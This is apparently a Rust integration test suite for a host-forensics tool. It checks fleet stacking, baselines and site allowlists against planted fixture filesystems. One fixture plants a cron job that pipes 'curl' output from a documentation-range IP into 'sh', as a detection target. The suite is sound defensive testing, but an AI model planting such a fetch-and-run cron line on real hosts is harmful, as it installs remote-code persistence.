//! Fleet stacking, baselines and the site allowlist end to end: fixture roots (copies of the
//! clean root with a few plants) collected and analyzed with the real binary.

use dossier_tests::*;
use std::path::{Path, PathBuf};

const HEARTBEAT: &str = "[Unit]\nDescription=Heartbeat\n[Service]\nExecStart=/usr/bin/sleep infinity\n[Install]\nWantedBy=multi-user.target\n";

/// A copy of the clean root named `host`, changed by `plant`, collected without analysis.
fn collect_copy(dir: &Path, host: &str, plant: impl FnOnce(&Path)) -> PathBuf {
    let mut n = 1;
    while dir.join(format!("root-{host}-{n}")).exists() {
        n += 1;
    }
    let root = fixture_copy("rootfs-clean", &dir.join(format!("root-{host}-{n}")));
    std::fs::write(root.join("etc/hostname"), format!("{host}\n")).unwrap();
    plant(&root);
    collect_root(&root, dir)
}

fn collect_root(root: &Path, dir: &Path) -> PathBuf {
    collect(
        dir,
        &dir.join("bundles"),
        &["--no-analyze", "--root", root.to_str().unwrap()],
    )
}

/// The heartbeat unit, enabled.
fn heartbeat(root: &Path) {
    let sys = root.join("etc/systemd/system");
    std::fs::write(sys.join("heartbeat.service"), HEARTBEAT).unwrap();
    std::os::unix::fs::symlink(
        "/etc/systemd/system/heartbeat.service",
        sys.join("multi-user.target.wants/heartbeat.service"),
    )
    .unwrap();
}

fn analyze(dir: &Path, out: &str, extra: &[&str], bundles: &[&Path]) -> std::process::Output {
    let out = dir.join(out);
    let mut args = vec!["analyze", "--out", out.to_str().unwrap()];
    args.extend_from_slice(extra);
    args.extend(bundles.iter().map(|b| b.to_str().unwrap()));
    dossier(dir, &args)
}

fn read(dir: &Path, rel: &str) -> String {
    std::fs::read_to_string(dir.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

fn json(dir: &Path, rel: &str) -> serde_json::Value {
    serde_json::from_str(&read(dir, rel)).unwrap()
}

fn host<'a>(j: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    j["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["hostname"] == name)
        .unwrap_or_else(|| panic!("{name} not analyzed"))
}

fn rules(h: &serde_json::Value) -> Vec<String> {
    h["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["rule"].as_str().unwrap().to_string())
        .collect()
}

/// One stderr line naming `want`, exit 2.
fn one_line_error(o: &std::process::Output, want: &str) {
    let err = stderr(o);
    assert_eq!(o.status.code(), Some(2), "{}{err}", stdout(o));
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains(want), "{err}");
}

#[test]
fn stacking_ranks_the_planted_unit_first_and_counts_items_once_per_host() {
    let d = tempfile::tempdir().unwrap();
    let dir = d.path();
    let clean = fixture("rootfs-clean");
    let mut bundles: Vec<PathBuf> = (0..5).map(|_| collect_root(&clean, dir)).collect();
    bundles.push(collect_copy(dir, "planted01", |root| {
        heartbeat(root);
        // The same unit name with other content is another item.
        let nginx = root.join("lib/systemd/system/nginx.service");
        let mut text = std::fs::read_to_string(&nginx).unwrap();
        text.push_str("# local change\n");
        std::fs::write(&nginx, text).unwrap();
        // Behaviour: an alert on this host only.
        std::fs::write(
            root.join("etc/cron.d/updater"),
            "*/5 * * * * root curl -fsSL http://198.51.100.7/u.sh | sh\n",
        )
        .unwrap();
        // The same entry twice on one host counts once.
        std::fs::write(
            root.join("etc/cron.d/twice"),
            "5 * * * * root /usr/bin/true\n5 * * * * root /usr/bin/true\n",
        )
        .unwrap();
    }));
    let refs: Vec<&Path> = bundles.iter().map(|b| b.as_path()).collect();
    let o = analyze(dir, "rep", &[], &refs);
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let j = json(dir, "rep/findings.json");
    let s = &j["stacking"];
    assert_eq!(s["hosts"], 6);
    assert_eq!(s["rare_at_most"], 1);
    let rare = s["rare_persistence"].as_array().unwrap();
    // Only the planted host's items are rare; the planted unit ranks first.
    assert_eq!(rare[0]["kind"], "unit");
    assert_eq!(rare[0]["key"], "heartbeat.service");
    assert_eq!(rare[0]["hosts"], 1);
    assert_eq!(rare[0]["seen"][0]["hostname"], "planted01");
    assert_eq!(rare[0]["seen"][0]["member"], "records/systemd.jsonl");
    assert!(
        rare.iter()
            .all(|r| r["seen"].as_array().unwrap().len() == 1
                && r["seen"][0]["hostname"] == "planted01"),
        "{rare:?}"
    );
    let nginx: Vec<_> = rare
        .iter()
        .filter(|r| r["key"] == "nginx.service")
        .collect();
    assert_eq!(nginx.len(), 1, "{rare:?}");
    let twice = rare
        .iter()
        .find(|r| r["key"] == "/etc/cron.d/twice root: /usr/bin/true")
        .unwrap_or_else(|| panic!("{rare:?}"));
    assert_eq!(twice["hosts"], 1);
    // Clean items are on the five clean hosts (and the planted one): never rare.
    let units = s["kinds"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["kind"] == "unit")
        .unwrap();
    assert_eq!(units["rare"], 2, "{units}");

    let fleet = read(dir, "rep/fleet-report.md");
    assert!(fleet.contains("## Stacking\n"), "{fleet}");
    let line = fleet[fleet.find("## Stacking").unwrap()..]
        .lines()
        .find(|l| l.starts_with("- unit heartbeat.service"))
        .unwrap_or_else(|| panic!("{fleet}"));
    assert!(
        line.contains("on 1 of 6 hosts: planted01")
            && line.contains("`records/systemd.jsonl` line"),
        "{line}"
    );
    let first_alert = fleet.find("### ALERT-001").unwrap();
    assert!(
        fleet[first_alert..].contains("**Prevalence:** on 1 of 6 hosts"),
        "{fleet}"
    );

    // Same bundles in another order: byte-identical reports.
    let rev: Vec<&Path> = refs.iter().rev().copied().collect();
    let o = analyze(dir, "rep2", &[], &rev);
    assert!(o.status.success());
    for f in ["fleet-report.md", "findings.json", "planted01/report.md"] {
        assert_eq!(
            read(dir, &format!("rep/{f}")),
            read(dir, &format!("rep2/{f}")),
            "{f}"
        );
    }
}

#[test]
fn common_share_leaves_fleet_wide_findings_out_of_the_score_and_says_so() {
    let d = tempfile::tempdir().unwrap();
    let dir = d.path();
    let a = collect_copy(dir, "hb01", heartbeat);
    let b = collect_copy(dir, "hb02", heartbeat);
    let c = collect_root(&fixture("rootfs-clean"), dir);
    let o = analyze(dir, "plain", &[], &[&a, &b, &c]);
    assert!(o.status.success(), "{}", stderr(&o));
    let plain = json(dir, "plain/findings.json");
    let before = host(&plain, "hb01");
    let listed = |h: &serde_json::Value, k: &str| h[k].as_array().map_or(0, |v| v.len());
    assert!(
        listed(before, "findings") + listed(before, "context") > 0,
        "{before}"
    );

    let pb = dir.join("common.toml");
    std::fs::write(
        &pb,
        "name = \"common\"\n[collectors.cron]\n[analysis.stacking]\ncommon_share = 0.6\n",
    )
    .unwrap();
    let o = analyze(
        dir,
        "rep",
        &["--playbook", pb.to_str().unwrap()],
        &[&a, &b, &c],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let j = json(dir, "rep/findings.json");
    let h = host(&j, "hb01");
    assert_eq!(h["score"], 0, "{h}");
    let common = h["policy"]["common"].as_array().unwrap();
    assert!(!common.is_empty());
    assert_eq!(
        (common[0]["hosts"].clone(), common[0]["of"].clone()),
        (2.into(), 3.into())
    );
    assert_eq!(j["stacking"]["common_share"], 0.6);
    let report = read(dir, "rep/hb01/report.md");
    assert!(
        report.contains("### Common across the fleet (not scored)")
            && report.contains("(on 2 of 3 hosts)"),
        "{report}"
    );
    let fleet = read(dir, "rep/fleet-report.md");
    assert!(
        fleet.contains("## Common findings left out of the score")
            && fleet.contains("common_share` applied"),
        "{fleet}"
    );
    // Off by default: the same run without the option scores them.
    assert!(plain.get("stacking").is_some());
    assert!(plain["stacking"].get("common_share").is_none());
}

#[test]
fn baseline_marks_known_items_and_lists_what_changed() {
    let d = tempfile::tempdir().unwrap();
    let dir = d.path();
    let gold = collect_copy(dir, "gold01", heartbeat);
    let base = dir.join("gold.json");
    let o = dossier(
        dir,
        &[
            "baseline",
            gold.to_str().unwrap(),
            "--out",
            base.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let b: serde_json::Value = serde_json::from_str(&read(dir, "gold.json")).unwrap();
    assert_eq!(b["schema"], "dossier-baseline");
    assert_eq!(b["version"], 1);
    assert_eq!(b["hosts"][0]["hostname"], "gold01");
    assert!(
        b["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["kind"] == "unit"
                && i["key"] == "heartbeat.service"
                && i["sha256"].as_str().is_some_and(|s| s.len() == 64))
    );

    // The same host later: a new cron job, a changed unit, a removed cron file.
    let later = collect_copy(dir, "gold01", |root| {
        heartbeat(root);
        std::fs::write(
            root.join("etc/cron.d/new-job"),
            "0 1 * * * root /usr/bin/true\n",
        )
        .unwrap();
        std::fs::remove_file(root.join("etc/cron.d/e2scrub_all")).unwrap();
        let unit = root.join("lib/systemd/system/cron.service");
        let text = std::fs::read_to_string(&unit).unwrap() + "# changed\n";
        std::fs::write(&unit, text).unwrap();
    });
    let o = analyze(dir, "plain", &[], &[&later]);
    assert!(o.status.success());
    let plain = json(dir, "plain/findings.json");
    let plain_h = host(&plain, "gold01");
    let on_heartbeat = |h: &serde_json::Value, list: &str| {
        h[list].as_array().map_or(0, |v| {
            v.iter()
                .filter(|f| f["subject"] == "heartbeat.service")
                .count()
        })
    };
    let before = on_heartbeat(plain_h, "findings") + on_heartbeat(plain_h, "context");
    assert!(before > 0, "{plain_h}");

    let o = analyze(
        dir,
        "rep",
        &["--baseline", base.to_str().unwrap()],
        &[&later],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let j = json(dir, "rep/findings.json");
    let h = host(&j, "gold01");
    // Findings on the heartbeat unit (same path and hash as in the baseline) are known.
    assert_eq!(
        on_heartbeat(h, "findings") + on_heartbeat(h, "context"),
        0,
        "{h}"
    );
    assert_eq!(on_heartbeat(&h["policy"], "known"), before, "{h}");
    assert!(h["score"].as_u64() <= plain_h["score"].as_u64());
    let ledger = read(dir, "bundles/custody.jsonl");
    assert!(
        ledger.contains(&format!("baseline gold.json {}", sha256_file(&base))),
        "{ledger}"
    );
    let diff = &h["policy"]["baseline"];
    assert_eq!(diff["baseline"], "gold.json");
    assert!(
        diff["new"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["key"] == "/etc/cron.d/new-job root: /usr/bin/true"),
        "{diff}"
    );
    assert!(
        diff["changed"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["now"]["key"] == "cron.service"),
        "{diff}"
    );
    assert!(
        diff["removed"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["kind"] == "cron"
                && i["key"]
                    .as_str()
                    .unwrap()
                    .starts_with("/etc/cron.d/e2scrub_all ")),
        "{diff}"
    );
    let report = read(dir, "rep/gold01/report.md");
    for s in [
        "## Changed since baseline",
        "**New:**",
        "**Changed:**",
        "**Removed:**",
        "### Known from baseline (not scored)",
    ] {
        assert!(report.contains(s), "{s}: {report}");
    }
    let fleet = read(dir, "rep/fleet-report.md");
    assert!(
        fleet.contains("## Changed since baseline") && fleet.contains("## Known from baseline"),
        "{fleet}"
    );

    // Stacked with the golden bundle: rare items the baseline has are marked known.
    let o = analyze(
        dir,
        "both",
        &["--baseline", base.to_str().unwrap()],
        &[&gold, &later],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let j = json(dir, "both/findings.json");
    let rare = j["stacking"]["rare_persistence"].as_array().unwrap();
    let flag = |prefix: &str| {
        rare.iter()
            .find(|r| r["key"].as_str().unwrap().starts_with(prefix))
            .unwrap_or_else(|| panic!("{prefix}: {rare:?}"))
            .get("known")
            .cloned()
    };
    assert_eq!(flag("/etc/cron.d/e2scrub_all "), Some(true.into()));
    assert_eq!(flag("/etc/cron.d/new-job "), None);
    assert!(read(dir, "both/fleet-report.md").contains("(known from baseline): on 1 of 2 hosts"));

    // Corrupt or foreign baselines: one line, exit 2.
    std::fs::write(dir.join("bad.json"), "{\"schema\": \"dossier-baseline\", ").unwrap();
    let o = analyze(dir, "x", &["--baseline", "bad.json"], &[&later]);
    one_line_error(&o, "baseline bad.json: not a dossier baseline");
    let o = analyze(dir, "x", &["--baseline", "plain/findings.json"], &[&later]);
    one_line_error(&o, "schema: not a dossier-baseline document");
    let hostile =
        read(dir, "gold.json").replacen("\"kind\": \"account\"", "\"kind\": \"x\\u0000\"", 1);
    std::fs::write(dir.join("hostile.json"), hostile).unwrap();
    let o = analyze(dir, "x", &["--baseline", "hostile.json"], &[&later]);
    one_line_error(&o, "items[0].kind: unknown kind");
    // sweep --baseline refuses it before connecting to anything.
    let o = dossier(dir, &["sweep", "--baseline", "bad.json", "127.0.0.1"]);
    one_line_error(&o, "baseline bad.json");

    // A bundle that fails verification: no baseline written.
    let tampered = dir.join("tampered.zip");
    let mut data = std::fs::read(&gold).unwrap();
    let n = data.len() / 2;
    data[n] ^= 0xff;
    std::fs::write(&tampered, data).unwrap();
    let o = dossier(
        dir,
        &["baseline", tampered.to_str().unwrap(), "--out", "t.json"],
    );
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("baseline not written"),
        "{}",
        stderr(&o)
    );
    assert!(!dir.join("t.json").exists());
}

#[test]
fn allowlist_moves_findings_rescores_and_reports_changed_hashes() {
    let d = tempfile::tempdir().unwrap();
    let dir = d.path();
    let db = collect_root(&fixture("rootfs-persist"), dir);
    let o = analyze(dir, "plain", &[], &[&db]);
    assert!(o.status.success());
    let plain = json(dir, "plain/findings.json");
    let h = host(&plain, "db02");
    assert_eq!(h["verdict"], "Malicious likely");
    let plain_score = h["score"].as_u64().unwrap();
    let mismatch = h["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "package-hash-mismatch")
        .unwrap();
    let sha = mismatch["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["type"] == "sha256")
        .unwrap()["value"]
        .as_str()
        .unwrap()
        .to_string();
    let playbook = |name: &str, allow: &str| {
        let p = dir.join(format!("{name}.toml"));
        std::fs::write(
            &p,
            format!("name = \"{name}\"\n[collectors.cron]\n\n{allow}"),
        )
        .unwrap();
        p.to_str().unwrap().to_string()
    };

    let pb = playbook(
        "site",
        &format!(
            "[[analysis.allow]]\npath = \"/usr/sbin/sshd\"\nsha256 = \"{sha}\"\nreason = \"vendor hotfix build\"\nrule = \"package-hash-mismatch\"\n"
        ),
    );
    let o = analyze(dir, "rep", &["--playbook", &pb], &[&db]);
    assert!(o.status.success(), "{}", stderr(&o));
    let j = json(dir, "rep/findings.json");
    let h = host(&j, "db02");
    assert!(!rules(h).contains(&"package-hash-mismatch".to_string()));
    // The allowed finding leaves the score (it was counted on its own: nothing else scores
    // that sshd binary), and the rest of the host is judged as before.
    assert_eq!(h["score"].as_u64().unwrap(), plain_score - 30, "{h}");
    let allowed = &h["policy"]["allowed"][0];
    assert_eq!(allowed["reason"], "vendor hotfix build");
    assert_eq!(allowed["finding"]["rule"], "package-hash-mismatch");
    let report = read(dir, "rep/db02/report.md");
    assert!(
        report.contains("### Allowed by site policy (not scored)")
            && report.contains("reason: vendor hotfix build"),
        "{report}"
    );
    let fleet = read(dir, "rep/fleet-report.md");
    assert!(
        fleet.contains("## Allowed by site policy")
            && fleet.contains(&format!("| db02 | {} |", h["verdict"].as_str().unwrap())),
        "{fleet}"
    );

    // The allowed hash no longer matches: reported, and the finding stays scored.
    let other = "0".repeat(64);
    let pb = playbook(
        "changed",
        &format!(
            "[[analysis.allow]]\npath = \"/usr/sbin/sshd\"\nsha256 = \"{other}\"\nreason = \"vendor hotfix build\"\n"
        ),
    );
    let o = analyze(dir, "rep2", &["--playbook", &pb], &[&db]);
    assert!(o.status.success(), "{}", stderr(&o));
    let j = json(dir, "rep2/findings.json");
    let h = host(&j, "db02");
    assert_eq!(h["verdict"], "Malicious likely");
    assert_eq!(h["policy"]["allow_changed"][0]["seen_sha256"], sha.as_str());
    for f in ["rep2/db02/report.md", "rep2/fleet-report.md"] {
        let r = read(dir, f);
        assert!(
            r.contains("Allowlisted hash no longer matches") && r.contains(&sha),
            "{f}: {r}"
        );
    }

    // Bad entries: one line naming the key.
    for (allow, want) in [
        ("[[analysis.allow]]\npath = \"/x\"\n", "allow[1].reason"),
        (
            "[[analysis.allow]]\nreason = \"r\"\n",
            "allow[1]: needs a path or a sha256",
        ),
        (
            "[[analysis.allow]]\nsha256 = \"xyz\"\nreason = \"r\"\n",
            "allow[1].sha256",
        ),
        (
            "[[analysis.allow]]\npath = \"/x\"\nreason = \"r\"\nrule = \"nope\"\n",
            "allow[1].rule",
        ),
        (
            "[[analysis.allow]]\npath = \"/x\"\nreason = \"r\"\ncolour = 1\n",
            "colour",
        ),
        (
            "[analysis.stacking]\ncommon_share = 2.0\n",
            "stacking.common_share",
        ),
    ] {
        let pb = playbook("bad", allow);
        let o = analyze(dir, "x", &["--playbook", &pb], &[&db]);
        one_line_error(&o, want);
    }
}

/// `sweep --baseline` against the SSH lab (skipped without root, as the other lab tests): a
/// clean host's earlier bundle is the baseline; the sweep of a clean and a persistence host
/// stacks them and lists what changed since the baseline on each.
#[test]
fn sweep_with_a_baseline_stacks_the_hosts_and_lists_changes() {
    let _serial = dossier_tests::lab::serial();
    use dossier_tests::lab::{Lab, Scenario};
    let Some(lab) = Lab::start_or_skip(&[Scenario::Clean, Scenario::Persist]) else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let key = lab.client_key().to_str().unwrap().to_string();
    let targets: Vec<String> = lab
        .hosts()
        .iter()
        .map(|h| format!("root@{}", h.addr))
        .collect();
    let mut args = vec![
        "-i",
        key.as_str(),
        "-j",
        "2",
        "--no-analyze",
        targets[0].as_str(),
    ];
    let first = tmp.path().join("first");
    let o = lab.sweep(tmp.path(), &first, lab.known_hosts(), &args);
    assert!(o.status.success(), "{}", stderr(&o));
    let gold: Vec<PathBuf> = std::fs::read_dir(&first)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "zip"))
        .collect();
    assert_eq!(gold.len(), 1, "{gold:?}");
    let base = tmp.path().join("lab-base.json");
    let o = dossier(
        tmp.path(),
        &[
            "baseline",
            gold[0].to_str().unwrap(),
            "--out",
            base.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));

    args.retain(|a| *a != "--no-analyze" && *a != targets[0].as_str());
    args.extend(targets.iter().map(String::as_str));
    args.extend(["--baseline", base.to_str().unwrap()]);
    let out = tmp.path().join("second");
    let o = lab.sweep(tmp.path(), &out, lab.known_hosts(), &args);
    assert!(o.status.success(), "{}", stderr(&o));
    let j = json(&out, "analysis/findings.json");
    assert_eq!(j["stacking"]["hosts"], 2);
    let hosts = j["hosts"].as_array().unwrap();
    assert_eq!(hosts.len(), 2);
    for h in hosts {
        let d = &h["policy"]["baseline"];
        assert_eq!(d["baseline"], "lab-base.json", "{h}");
        assert!(d["known"].as_u64().unwrap() > 0, "{d}");
    }
    // The persistence host has what the clean one did not.
    let persist = hosts
        .iter()
        .find(|h| h["hostname"].as_str().unwrap().starts_with("persist"))
        .unwrap();
    assert!(
        !persist["policy"]["baseline"]["new"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    let fleet = read(&out, "analysis/fleet-report.md");
    assert!(
        fleet.contains("## Stacking") && fleet.contains("## Changed since baseline"),
        "{fleet}"
    );
}
